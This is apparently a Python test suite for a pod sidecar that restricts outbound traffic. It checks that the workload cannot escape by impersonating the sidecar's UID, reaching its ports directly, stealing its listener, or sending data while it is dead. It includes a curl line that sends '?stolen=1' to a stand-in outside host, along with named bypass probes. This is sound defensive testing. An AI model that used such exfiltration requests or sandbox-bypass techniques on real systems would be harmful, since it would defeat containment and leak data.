"""The sidecar itself as target: its identity, its ports, its listener, its life."""

import os
import signal
import unittest

from pod.pod import PodSettings
from pod.waiting import wait_until

from support.pod_case import PodCase
from support.probing import PROBES, not_refused, run_probe

ALLOW = {"allow.js": 'r.host === "registry.example.test"'}
GOOD = ["curl", "-sS", "--max-time", "10", "https://registry.example.test/pkg"]
ELSEWHERE = ["curl", "-sS", "-i", "--max-time", "10", "https://other.example.test/?stolen=1"]


class Target(PodCase):
    """A pod whose policy allows one host."""

    settings = PodSettings(policies=ALLOW)

    @classmethod
    def start_pod(cls):
        cls.pod.start_pause()
        cls.pod.start_sidecar()
        cls.pod.start_workload("workload", mounts=(PROBES,))

    def setUp(self):
        self.position = self.pod.outside.frames.mark()


class Identity(Target):
    """Looking like the sidecar."""

    def test_the_sidecars_user_id_exempts_nobody(self):
        become = ["setpriv", "--reuid=15001", "--regid=15001", "--clear-groups"]
        done = self.pod.run("workload", [*become, *ELSEWHERE])
        self.assertRegex(done.stdout, r"^HTTP/[0-9.]+ 403 ")
        attempts = run_probe(self.pod, "datagrams", become=become)
        self.assertEqual([], not_refused(attempts))
        self.assert_nothing_left(self.position)

    def test_the_sidecars_program_in_the_workload_exempts_nobody(self):
        self.pod.start_workload("copycat", args=("sleep", "infinity"), uid=15001, capabilities=(),
                                no_new_privileges=True)
        done = self.pod.run("copycat", ELSEWHERE)
        self.assertRegex(done.stdout, r"^HTTP/[0-9.]+ 403 ")
        self.assert_nothing_left(self.position)

    def test_the_sidecar_is_unprivileged(self):
        status = self.sidecar_status()
        self.assertEqual(["15001"] * 4, status["Uid"].split())
        self.assertEqual(["15001"] * 4, status["Gid"].split())
        for held in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
            self.assertEqual(0, int(status[held], 16), held)
        self.assertEqual("1", status["NoNewPrivs"])

    def sidecar_status(self):
        """/proc/<pid>/status of the sidecar."""
        with open(f"/proc/{self.pod.state('sidecar')['pid']}/status", encoding="ascii") as file:
            return {name: value.strip() for name, _, value in (line.partition(":") for line in file)}


class Ports(Target):
    """Reaching the sidecar without the redirect."""

    def test_its_ports_are_closed_to_direct_connections_on_every_address(self):
        attempts = run_probe(self.pod, "sidecar_ports", timeout=120)
        self.assertEqual([], not_refused(attempts))
        self.assert_nothing_left(self.position)

    def test_it_cannot_be_asked_to_connect_to_itself(self):
        for target in ("127.0.0.1:15001", "127.0.0.1:15020", "192.0.2.2:15020", "localhost:15020"):
            done = self.pod.run("workload", ["curl", "-sS", "-i", "--max-time", "5", "--connect-to", "::203.0.113.66:80",
                                             f"http://{target}/metrics"])
            self.assertNotIn("podjail_requests_total", done.stdout)
            self.assertNotRegex(done.stdout, r"^HTTP/[0-9.]+ 200")
        self.assert_nothing_left(self.position)

    def test_a_workload_cannot_take_its_listener(self):
        attempts = run_probe(self.pod, "steal_listener")
        self.assertEqual([], [one for one in attempts if one.outcome in ("stolen", "answered")])
        self.assert_nothing_left(self.position)

    def test_it_has_no_abstract_socket(self):
        self.assertNotIn("@", self.run_ok(["cat", "/proc/net/unix"]))


class Death(Target):
    """A sidecar that is killed."""

    def test_nothing_leaves_while_it_is_dead_and_all_works_again_when_it_is_back(self):
        self.assertIn("hello", self.run_ok(GOOD))
        self.kill_sidecar()
        position = self.pod.outside.frames.mark()
        done = self.pod.run("workload", ["curl", "-sS", "--max-time", "2", GOOD[-1]])
        self.assertNotEqual(0, done.status)
        for probe in ("datagrams", "connections"):
            attempts = run_probe(self.pod, probe, timeout=90)
            self.assertEqual([], not_refused(attempts))
        attempts = run_probe(self.pod, "steal_listener")
        self.assertEqual([], [one for one in attempts if one.outcome in ("stolen", "answered")])
        self.assert_nothing_left(position)

        self.pod.delete("sidecar")
        self.pod.start_sidecar()
        self.pod.start_workload("later")  # its trust bundle holds the new issuer
        done = self.pod.run("later", GOOD)
        self.assertIn("hello", done.stdout, done.stderr)

    def kill_sidecar(self):
        """SIGKILL, from the host, and wait until it is gone."""
        pid = self.pod.state("sidecar")["pid"]
        os.kill(pid, signal.SIGKILL)
        wait_until(lambda: self.pod.state("sidecar")["status"] == "stopped", "the sidecar's end")


if __name__ == "__main__":
    unittest.main()
